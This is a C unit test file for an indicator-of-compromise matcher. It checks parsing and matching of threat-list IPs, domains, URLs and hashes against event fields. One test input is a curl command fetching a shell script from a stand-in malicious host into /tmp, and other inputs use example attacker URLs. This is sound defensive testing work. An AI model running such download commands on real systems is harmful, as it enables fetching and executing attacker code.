@@ -1,0 +1,399 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+#include <stdlib.h>
+
+#include "../check.h"
+#include "base/alloc.h"
+#include "base/buf.h"
+#include "detect/indicators-int.h"
+
+static struct yg_indicators *set;
+static struct yg_names *names;
+static struct yg_arena *arena;
+static struct yg_event event;
+static struct yg_buf told;
+
+static void on_report(void *arg, const char *file, uint64_t line, const char *reason)
+{
+	(void)arg;
+	yg_buf_addf(&told, "%s:%llu: %s\n", file, (unsigned long long)line, reason);
+}
+
+static void begin(const char *list, const char *allow)
+{
+	yg_buf_init(&told, 65536);
+	set = yg_indicators_new();
+	names = yg_names_new();
+	arena = yg_arena_new(1u << 20);
+	if (!set || !names || !arena ||
+	    yg_indicators_add(set, "list", yg_bytes_str(list), on_report, NULL) != YG_OK ||
+	    yg_indicators_allow(set, "allow", yg_bytes_str(allow), on_report, NULL) != YG_OK ||
+	    yg_indicators_finish(set) != YG_OK)
+		abort();
+	yg_event_init(&event, arena, names);
+}
+
+static void end(void)
+{
+	set = yg_indicators_free(set);
+	names = yg_names_free(names);
+	arena = yg_arena_free(arena);
+	yg_buf_done(&told);
+}
+
+/* The values of the indicators found in @text, as "value[text] ". */
+static struct yg_bytes found(const char *text)
+{
+	static char to[4096];
+	struct yg_indicator_hit hits[8];
+	size_t size = 0;
+	uint32_t count;
+
+	yg_event_init(&event, arena, names);
+	if (yg_event_add(&event, YG_S("field"), yg_bytes_str(text), YG_VALUE_TEXT) != YG_OK)
+		abort();
+	count = yg_indicators_match(set, &event, hits, 8);
+	for (uint32_t i = 0; i < count; i++)
+		size += (size_t)snprintf(to + size, sizeof(to) - size, "%.*s[%.*s] ",
+					 YG_FMT(yg_indicators_get(set, hits[i].index).value),
+					 YG_FMT(hits[i].value));
+	return (struct yg_bytes){(const uint8_t *)to, size};
+}
+
+static void addresses(void)
+{
+	begin("192.0.2.1\n198.51.100[.]7:443\n2001:DB8::1\n203.0.113.77/24\n2001:db8:5::/48\n"
+	      "203.0.113.9\n",
+	      "");
+	CHECK(told.size == 0 && yg_indicators_count(set) == 6);
+	CHECK_TEXT(found("192.0.2.1"), "192.0.2.1[192.0.2.1] ");
+	CHECK_TEXT(found("192.0.2.10"), "");
+	CHECK_TEXT(found("192.0.2.1.5"), "");
+	CHECK_TEXT(found("::ffff:192.0.2.1"), "192.0.2.1[::ffff:192.0.2.1] ");
+	CHECK_TEXT(found("from 192.0.2.1. Again"), "192.0.2.1[192.0.2.1] ");
+	CHECK_TEXT(found("from [198.51.100.7]:51234, again"), "198.51.100.7[198.51.100.7] ");
+	CHECK_TEXT(found("203.0.113.9"), "203.0.113.9[203.0.113.9] 203.0.113.0/24[203.0.113.9] ");
+	CHECK_TEXT(found("a=203.0.112.255 b=203.0.114.0"), "");
+	CHECK_TEXT(found("2001:db8:0::0001"), "2001:db8:0:0:0:0:0:1[2001:db8:0::0001] ");
+	CHECK_TEXT(found("from 2001:db8:5:1::8: refused"),
+		   "2001:db8:5:0:0:0:0:0/48[2001:db8:5:1::8] ");
+	CHECK_TEXT(found("[2001:db8::1]:443"), "2001:db8:0:0:0:0:0:1[2001:db8::1] ");
+	CHECK_TEXT(found("08:31:54 2001:db8:6::1 aa:bb:cc:dd:ee:ff"), "");
+	CHECK_TEXT(found("Chrome/192.0.2.1 Safari"), "");
+	CHECK_TEXT(found("/192.0.2.1:80"), "192.0.2.1[192.0.2.1] ");
+	CHECK_TEXT(found("192.0.2.0-192.0.2.1"), "192.0.2.1[192.0.2.1] ");
+	end();
+}
+
+static void domains(void)
+{
+	begin("evil.example\n*.bad.example\nWWW.Two.Example.\nhxxp[://"
+	      "]x\nxn--p1b6ci4b4b3a.xn--11b5bs3a9aj6g\n",
+	      "");
+	CHECK_TEXT(yg_buf_bytes(&told),
+		   "list:4: neither an address, a prefix, a domain, a URL nor a hash\n");
+	CHECK_TEXT(found("evil.example"), "evil.example[evil.example] ");
+	CHECK_TEXT(found("a.b.EVIL.example."), "evil.example[a.b.EVIL.example] ");
+	CHECK_TEXT(found("notevil.example evil.example.com"), "");
+	CHECK_TEXT(found("two.example www.two.example"), "www.two.example[www.two.example] ");
+	CHECK_TEXT(found("curl http://x.bad.example:8080/a.sh -o /tmp/a.sh"),
+		   "bad.example[x.bad.example] ");
+	CHECK_TEXT(found("/go?u=http%3A%2F%2Fevil.example%2Fx"), "evil.example[evil.example] ");
+	CHECK_TEXT(found("user@evil.example"), "evil.example[evil.example] ");
+	CHECK_TEXT(found("\\\\evil.example\\share"), "evil.example[evil.example] ");
+	/* A file of that name is not that domain. */
+	CHECK_TEXT(found("/download/evil.example"), "");
+	CHECK_TEXT(found("C:\\tools\\evil.example"), "");
+	CHECK_TEXT(found("xn--p1b6ci4b4b3a.xn--11b5bs3a9aj6g"),
+		   "xn--p1b6ci4b4b3a.xn--11b5bs3a9aj6g[xn--p1b6ci4b4b3a.xn--11b5bs3a9aj6g] ");
+	end();
+}
+
+static void urls(void)
+{
+	begin("hxxps://Evil[.]example/Drop/a.php\nhttp://q.example/x?id=1\nbare.example/path/p\n"
+	      "http://192.0.2.5:8080/\n",
+	      "");
+	CHECK(told.size == 0);
+	CHECK_TEXT(found("https://evil.example/Drop/a.php"),
+		   "https://evil.example/Drop/a.php[https://evil.example/Drop/a.php] ");
+	CHECK_TEXT(found("(see HTTPS://user:pw@EVIL.example:443/Drop/a.php?x=1#top)."),
+		   "https://evil.example/Drop/a.php[HTTPS://user:pw@EVIL.example:443/Drop/"
+		   "a.php?x=1#top] ");
+	CHECK_TEXT(found("https://evil.example/drop/a.php"), ""); /* paths have case */
+	CHECK_TEXT(found("http://evil.example/Drop/a.php"), "");
+	CHECK_TEXT(found("https://evil.example/Drop/a.php/more"), "");
+	CHECK_TEXT(found("http://q.example/x?id=1"),
+		   "http://q.example/x?id=1[http://q.example/x?id=1] ");
+	CHECK_TEXT(found("http://q.example/x?id=2 http://q.example/x"), "");
+	CHECK_TEXT(found("\"https://bare.example/path/p\""),
+		   "bare.example/path/p[https://bare.example/path/p] ");
+	CHECK_TEXT(found("GET http://192.0.2.5:8080"),
+		   "http://192.0.2.5:8080/[http://192.0.2.5:8080] ");
+	end();
+}
+
+static void hashes(void)
+{
+	begin("44D88612FEA8A8F36DE82E1278ABB02F\n"
+	      "sha256:275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f\n"
+	      "x.exe|"
+	      "3395856ce81f2b7382dee72602f798b642f14140\nabcdef0123456789abcdef0123456789ab\n",
+	      "");
+	CHECK_TEXT(
+		yg_buf_bytes(&told),
+		"list:4: a hash of this length is not searched for: give MD5, SHA-1 or SHA-256\n");
+	CHECK_TEXT(found("SHA1=3395856CE81F2B7382DEE72602F798B642F14140,MD5="
+			 "44d88612fea8a8f36de82e1278abb02f"),
+		   "3395856ce81f2b7382dee72602f798b642f14140["
+		   "3395856CE81F2B7382DEE72602F798B642F14140] "
+		   "44d88612fea8a8f36de82e1278abb02f[44d88612fea8a8f36de82e1278abb02f] ");
+	CHECK_TEXT(found("275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F"),
+		   "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
+		   "[275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F] ");
+	CHECK_TEXT(found("44d88612fea8a8f36de82e1278abb02f0"), ""); /* longer */
+	CHECK_TEXT(found("x44d88612fea8a8f36de82e1278abb02f"), ""); /* part of a word */
+	CHECK_TEXT(found("<44d88612fea8a8f36de82e1278abb02f>"),
+		   "44d88612fea8a8f36de82e1278abb02f[44d88612fea8a8f36de82e1278abb02f] ");
+	/* Wherever in the text the run begins, it is found. */
+	for (size_t lead = 0; lead < 80; lead++) {
+		char text[160];
+
+		memset(text, '-', lead);
+		(void)snprintf(text + lead, sizeof(text) - lead,
+			       "44d88612fea8a8f36de82e1278abb02f");
+		CHECK(found(text).size > 0);
+	}
+	end();
+}
+
+static void dangerous(void)
+{
+	begin("0.0.0.0/0\n::/0\n10.0.0.0/7\n2001::/"
+	      "15\ncom\nco.jp\nlocalhost\n127.0.0.1\n::1\n0.0.0.0\n"
+	      "255.255.255.255\n10.0.0.0/8\n192.168.1.1\n.\n192.0.2.0/"
+	      "33\na@evil.example\n300.1.1.1\n",
+	      "");
+	CHECK(yg_indicators_count(set) == 2); /* private ones are accepted */
+	for (unsigned line = 1; line <= 17; line++) {
+		char prefix[32];
+
+		(void)snprintf(prefix, sizeof(prefix), "list:%u: ", line);
+		CHECK((yg_bytes_find(yg_buf_bytes(&told), yg_bytes_str(prefix)) == SIZE_MAX) ==
+		      (line == 12 || line == 13));
+	}
+	CHECK_TEXT(found("10.20.30.40 192.168.1.1"),
+		   "10.0.0.0/8[10.20.30.40] 192.168.1.1[192.168.1.1] ");
+	end();
+}
+
+static struct yg_indicator first(const char *list)
+{
+	begin(list, "");
+	return yg_indicators_count(set) ? yg_indicators_get(set, 0) : (struct yg_indicator){0};
+}
+
+static void plain_lists(void)
+{
+	struct yg_indicator i = first("# ours\n\n  evil.example  # seen in a mail\r\n");
+
+	CHECK_TEXT(i.value, "evil.example");
+	CHECK_TEXT(i.comment, "seen in a mail");
+	CHECK_TEXT(i.file, "list");
+	CHECK(i.line == 3 && i.type == YG_INDICATOR_DOMAIN);
+	end();
+	i = first("192.0.2.1,botnet, again\n");
+	CHECK_TEXT(i.comment, "botnet, again");
+	end();
+	i = first("0.0.0.0 evil.example # hosts file\n");
+	CHECK_TEXT(i.value, "evil.example");
+	CHECK_TEXT(i.comment, "hosts file");
+	end();
+	i = first("\"192.0.2.1\",\"botnet\"\n");
+	CHECK_TEXT(i.value, "192.0.2.1");
+	CHECK_TEXT(i.comment, "botnet");
+	end();
+	i = first("\xef\xbb\xbf"
+		  "203.0.113.0/24");
+	CHECK_TEXT(i.value, "203.0.113.0/24");
+	CHECK(i.type == YG_INDICATOR_PREFIX && i.line == 1);
+	end();
+}
+
+static void csv_lists(void)
+{
+	struct yg_indicator i = first("id,Type,Value,Comment\n1,domain,evil.example,\"a "
+				      "\"\"quoted\"\"\nremark, two lines\"\n"
+				      "2,ip,192.0.2.1,\n3,ip,,\n4,x,nonsense!,\n");
+
+	CHECK_TEXT(i.value, "evil.example");
+	CHECK_TEXT(i.comment, "a \"quoted\"\nremark, two lines");
+	CHECK(i.line == 2 && yg_indicators_count(set) == 2);
+	CHECK(yg_indicators_get(set, 1).line == 4 && yg_indicators_get(set, 1).comment.size == 0);
+	CHECK_TEXT(yg_buf_bytes(&told),
+		   "list:6: neither an address, a prefix, a domain, a URL nor a hash\n");
+	end();
+	i = first("ip;domain;reason\n192.0.2.1;evil.example;both\n");
+	CHECK(yg_indicators_count(set) == 2);
+	CHECK_TEXT(yg_indicators_get(set, 1).comment, "both");
+	end();
+	i = first(
+		"# a feed\n# "
+		"\"first_seen\",\"ioc_value\",\"malware\"\n\"2026\",\"evil.example\",\"Loader\"\n");
+	CHECK_TEXT(i.value, "evil.example");
+	CHECK_TEXT(i.comment, "Loader");
+	end();
+	i = first("indicator\nevil.example\n");
+	CHECK_TEXT(i.value, "evil.example");
+	end();
+	i = first("IPアドレス,理由\n192.0.2.1,不正なログイン\n");
+	CHECK_TEXT(i.comment, "不正なログイン");
+	end();
+	i = first("value,comment\n\"evil.example,never closed\n192.0.2.1,fine\n");
+	CHECK_TEXT(i.value, "192.0.2.1");
+	CHECK(yg_bytes_starts(yg_buf_bytes(&told), YG_S("list:2: a quotation mark")));
+	end();
+}
+
+static void allowed(void)
+{
+	struct yg_bytes reason;
+
+	begin("192.0.2.1\n", "192.0.2.0/28 # our scanner\nscan.example our tool\n198.51.100.1\n");
+	CHECK(yg_indicators_is_allowed(set, YG_S("192.0.2.1"), &reason));
+	CHECK_TEXT(reason, "our scanner");
+	CHECK(yg_indicators_is_allowed(set, YG_S("a.scan.example"), &reason));
+	CHECK_TEXT(reason, "our tool");
+	CHECK(yg_indicators_is_allowed(set, YG_S("198.51.100.1"), &reason));
+	CHECK(reason.size == 0);
+	CHECK(!yg_indicators_is_allowed(set, YG_S("192.0.2.16"), &reason));
+	CHECK(!yg_indicators_is_allowed(set, YG_S(""), &reason));
+	CHECK(yg_indicators_count(set) == 1);
+	end();
+}
+
+static void fields(void)
+{
+	struct yg_indicator_hit hits[4];
+
+	begin("192.0.2.1\nevil.example\n", "");
+	CHECK(yg_event_add(&event, YG_S("a"), YG_S("nothing"), YG_VALUE_TEXT) == YG_OK);
+	CHECK(yg_event_derive(&event, YG_F_src_ip, YG_S("192.0.2.1"), YG_VALUE_TEXT) == YG_OK);
+	CHECK(yg_event_add(&event, YG_S("FileVersion"), YG_S("192.0.2.1"), YG_VALUE_TEXT) == YG_OK);
+	CHECK(yg_indicators_match(set, &event, hits, 4) == 0);
+	CHECK(yg_event_add_escaped(&event, YG_S("url"), YG_S("http:\\/\\/evil.example\\/x")) ==
+	      YG_OK);
+	CHECK(yg_event_add(&event, YG_S("ip"), YG_S("192.0.2.1 evil.example"), YG_VALUE_TEXT) ==
+	      YG_OK);
+	CHECK(yg_indicators_match(set, &event, hits, 4) == 2);
+	CHECK(hits[0].index == 1 && hits[0].field == 3 && hits[1].index == 0 && hits[1].field == 4);
+	CHECK(yg_indicators_match(set, &event, hits, 1) == 1);
+	end();
+}
+
+static struct yg_bytes found_escaped(const char *text)
+{
+	static char to[1024];
+	struct yg_indicator_hit hits[8];
+	size_t size = 0;
+	uint32_t count;
+
+	yg_event_init(&event, arena, names);
+	if (yg_event_add_escaped(&event, YG_S("field"), yg_bytes_str(text)) != YG_OK)
+		abort();
+	count = yg_indicators_match(set, &event, hits, 8);
+	for (uint32_t i = 0; i < count; i++)
+		size += (size_t)snprintf(to + size, sizeof(to) - size, "%.*s ",
+					 YG_FMT(hits[i].value));
+	return (struct yg_bytes){(const uint8_t *)to, size};
+}
+
+/* JSON's escapes are no part of what stands beside them. */
+static void escaped(void)
+{
+	begin("192.0.2.1\nevil.example\nhttp://evil.example/x\n2001:db8::1\n"
+	      "44d88612fea8a8f36de82e1278abb02f\n",
+	      "");
+	CHECK_TEXT(found_escaped("a\\\\nevil.example b"), ""); /* the name begins with n */
+	CHECK_TEXT(found_escaped("a\\nevil.example b"), "evil.example ");
+	CHECK_TEXT(found_escaped("\\u0026192.0.2.1\\r\\n192.0.2.1"), "192.0.2.1 ");
+	CHECK_TEXT(found_escaped("\\t2001:db8::1\\n"), "2001:db8::1 ");
+	CHECK_TEXT(found_escaped("\\u000a2001:db8::1"), "2001:db8::1 ");
+	CHECK_TEXT(found_escaped("\\n44d88612fea8a8f36de82e1278abb02f\\n"),
+		   "44d88612fea8a8f36de82e1278abb02f ");
+	CHECK_TEXT(found_escaped("\\u000a44d88612fea8a8f36de82e1278abb02f"),
+		   "44d88612fea8a8f36de82e1278abb02f ");
+	CHECK_TEXT(found_escaped("\\b44d88612fea8a8f36de82e1278abb02f"),
+		   "44d88612fea8a8f36de82e1278abb02f ");
+	CHECK_TEXT(found_escaped("\\\"http:\\/\\/evil.example\\/x\\\" y"),
+		   "http:\\/\\/evil.example\\/x evil.example ");
+	CHECK_TEXT(found_escaped("\\\\\\\\evil.example\\\\share"), "evil.example ");
+	CHECK_TEXT(found_escaped("C:\\\\tools\\\\evil.example"), "");
+	CHECK_TEXT(found_escaped("\\/a\\/evil.example"), "");
+	end();
+}
+
+static void empty_set(void)
+{
+	begin("", "");
+	CHECK(yg_indicators_count(set) == 0);
+	CHECK_TEXT(found("192.0.2.1 evil.example"), "");
+	end();
+}
+
+/* Many generated values: each is found, and their neighbours are not. */
+static void many(void)
+{
+	struct yg_buf list;
+	char text[96];
+
+	yg_buf_init(&list, 16u << 20);
+	for (unsigned i = 0; i < 20000; i++)
+		yg_buf_addf(&list, "n%u.evil.example\n198.%u.%u.%u\n", 2 * i, 18 + (i >> 14 & 1),
+			    i >> 6 & 255, 2 * (i & 63));
+	yg_buf_add_byte(&list, '\0');
+	begin((const char *)list.data, "");
+	CHECK(told.size == 0 && yg_indicators_count(set) == 40000);
+	for (unsigned i = 0; i < 20000; i++) {
+		(void)snprintf(text, sizeof(text), "n%u.evil.example 198.%u.%u.%u", 2 * i + 1,
+			       18 + (i >> 14 & 1), i >> 6 & 255, 2 * (i & 63) + 1);
+		CHECK(found(text).size == 0);
+		(void)snprintf(text, sizeof(text), "n%u.evil.example 198.%u.%u.%u", 2 * i,
+			       18 + (i >> 14 & 1), i >> 6 & 255, 2 * (i & 63));
+		CHECK(found(text).size > 50);
+		yg_arena_reset(arena);
+	}
+	end();
+	yg_buf_done(&list);
+}
+
+static void torture(void)
+{
+	static const char list[] = "value,comment\n192.0.2.1,a\nevil.example,b\n";
+	int rc = YG_ENOMEM;
+
+	for (long n = 1; n < 100; n++) {
+		struct yg_indicators *one;
+
+		yg_fail_at = n;
+		one = yg_indicators_new();
+		rc = one ? yg_indicators_add(one, "list", yg_bytes_str(list), NULL, NULL)
+			 : YG_ENOMEM;
+		if (rc == YG_OK)
+			rc = yg_indicators_finish(one);
+		(void)yg_indicators_free(one);
+		if (yg_fail_at > 0)
+			break;
+		yg_fail_at = 0;
+		CHECK(rc == YG_OK || rc == YG_ENOMEM); /* giving memory back may fail unnoticed */
+	}
+	yg_fail_at = 0;
+	CHECK(rc == YG_OK);
+}
+
+static const struct check_case cases[] = {
+	CASE(addresses),   CASE(domains),   CASE(urls),	   CASE(hashes), CASE(dangerous),
+	CASE(plain_lists), CASE(csv_lists), CASE(allowed), CASE(fields), CASE(escaped),
+	CASE(empty_set),   CASE(many),	    CASE(torture),
+};
+
+CHECK_MAIN(cases)
